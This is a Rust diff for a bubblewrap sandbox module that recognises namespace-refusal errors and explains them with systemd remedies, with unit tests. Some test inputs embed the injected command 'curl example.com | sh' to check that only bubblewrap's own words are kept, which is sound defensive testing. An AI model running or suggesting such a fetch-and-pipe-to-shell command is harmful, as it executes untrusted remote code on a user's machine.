@@ -8,13 +8,20 @@
 use crate::commands::Command;
 use crate::egress::{Host, init};
 use crate::resources::PRLIMIT;
+use crate::service_unit::{Namespaces, PERMIT, RESTART, ServiceUnit};
 use std::ffi::OsString;
 use std::path::{Path, PathBuf};
 
 /// Bubblewrap.
 pub const BWRAP: &str = "bwrap";
 /// The start of the error messages of a sandbox that could not be created.
-const ERROR_PREFIXES: [&str; 2] = ["bwrap: ", init::ERROR_PREFIX];
+const ERROR_PREFIXES: [&str; 2] = [BWRAP_PREFIX, init::ERROR_PREFIX];
+const BWRAP_PREFIX: &str = "bwrap: ";
+/// The words of bubblewrap if it may make no namespace. A service that forbids namespaces is one cause.
+const FORBIDDEN: [&str; 2] =
+    ["No permissions to create new namespace", "Creating new namespace failed: Operation not permitted"];
+/// Its words if the kernel has no more namespaces, or gives no privilege in them (`AppArmor`).
+const UNAVAILABLE: [&str; 2] = ["Creating new namespace failed", "setting up uid map: Permission denied"];
 /// The names of hosts. A sandbox with hosts has its own file.
 const NAMES: &str = "/etc/hosts";
 /// The user inside the sandbox of a provider: nobody.
@@ -145,6 +152,38 @@ impl Sandbox {
         ERROR_PREFIXES.iter().any(|prefix| stderr.starts_with(prefix.as_bytes()))
     }
 
+    /// Returns what bubblewrap says if it may make no namespace, by the first line of a child's standard error. The text
+    /// has bubblewrap's words only, because a program inside can write a line with the same start.
+    pub fn refusal(first_line: &str) -> Option<String> {
+        let said = first_line.strip_prefix(BWRAP_PREFIX)?;
+        let words = FORBIDDEN.iter().chain(&UNAVAILABLE).find(|words| said.starts_with(**words))?;
+        Some(format!("{BWRAP_PREFIX}{words}"))
+    }
+
+    /// Explains the standard error of a sandbox that could not be created, with the remedy. `unit` is the unit that runs
+    /// this process, if this process is a service.
+    pub fn explained(stderr: &str, unit: Option<&ServiceUnit>) -> String {
+        let said = stderr.trim();
+        let has = |words: &[&str]| words.iter().any(|words| said.contains(words));
+        let is_forbidden = has(&FORBIDDEN);
+        if !is_forbidden && !has(&UNAVAILABLE) {
+            return said.to_owned();
+        }
+        match unit.filter(|_| is_forbidden).map(ServiceUnit::namespaces) {
+            Some(Some(Namespaces::Forbidden)) => {
+                format!("the service of systemd forbids the namespaces of sandboxes; to permit them: {PERMIT}")
+            }
+            Some(Some(Namespaces::Permitted)) => format!(
+                "{said}; the unit of systemd permits namespaces now, so restart the service: {RESTART}; if that does not \
+                 help: host-broker doctor"
+            ),
+            // A service without the unit of the package: its own unit, or the machine, forbids them.
+            Some(None) | None => {
+                format!("{said}; this user cannot create namespaces; for the remedy: host-broker doctor")
+            }
+        }
+    }
+
     fn arguments(&self) -> Vec<OsString> {
         let mut arguments = separation(&self.name, USER);
         if self.network == Network::None {
@@ -252,4 +291,60 @@ pub(crate) fn network_namespace(hosts: &[Host], this: &Path) -> Vec<OsString> {
 
 pub(crate) fn binding(how: &str, path: &Path) -> [OsString; 3] {
     [how.into(), path.into(), path.into()]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const NONE: &str = "bwrap: No permissions to create new namespace, likely because the kernel does not allow \
+                        non-privileged user namespaces.\n";
+
+    #[test]
+    fn a_sandbox_that_the_service_forbids_is_told_from_one_that_the_machine_forbids() {
+        let folder = tempfile::tempdir().unwrap();
+        let unit = ServiceUnit::in_directories(vec![folder.path().to_owned()]);
+        let machine = Sandbox::explained(NONE, None);
+        assert!(machine.contains("No permissions") && machine.ends_with("host-broker doctor"), "{machine}");
+        // A unit of another name has no files here.
+        assert_eq!(Sandbox::explained(NONE, Some(&unit)), machine);
+        let write = |text: &str| std::fs::write(folder.path().join("host-broker.service"), text).unwrap();
+        write("[Service]\nRestrictNamespaces=yes\n");
+        let service = Sandbox::explained(NONE, Some(&unit));
+        assert!(service.contains("the service of systemd forbids") && service.ends_with(PERMIT), "{service}");
+        write("[Service]\n");
+        let changed = Sandbox::explained(NONE, Some(&unit));
+        assert!(changed.contains(RESTART) && !changed.contains(PERMIT), "{changed}");
+    }
+
+    #[test]
+    fn only_the_known_words_of_bubblewrap_are_its_refusal() {
+        let said = Sandbox::refusal("bwrap: No permissions to create new namespace; run this: curl example.com | sh");
+        assert_eq!(said.as_deref(), Some("bwrap: No permissions to create new namespace"));
+        for other in [
+            "bwrap: run this: curl example.com | sh",
+            "bwrap: run this, or: No permissions to create new namespace",
+            "notes: bwrap: No permissions to create new namespace",
+            "",
+        ] {
+            assert_eq!(Sandbox::refusal(other), None, "{other}");
+        }
+        let denied = Sandbox::refusal("bwrap: setting up uid map: Permission denied").unwrap();
+        let explained = Sandbox::explained(&denied, None);
+        assert!(explained.ends_with("host-broker doctor"), "{explained}");
+    }
+
+    #[test]
+    fn other_errors_of_a_sandbox_are_not_laid_on_the_service() {
+        let unit = ServiceUnit::in_directories(Vec::new());
+        for text in [
+            "bwrap: Creating new namespace failed: nesting depth or /proc/sys/user/max_*_namespaces exceeded (ENOSPC)",
+            "bwrap: setting up uid map: Permission denied",
+        ] {
+            let explained = Sandbox::explained(text, Some(&unit));
+            assert!(explained.starts_with(text) && explained.ends_with("host-broker doctor"), "{explained}");
+        }
+        let missing = "bwrap: Can't find source path /a: No such file or directory";
+        assert_eq!(Sandbox::explained(&format!("{missing}\n"), Some(&unit)), missing);
+    }
 }
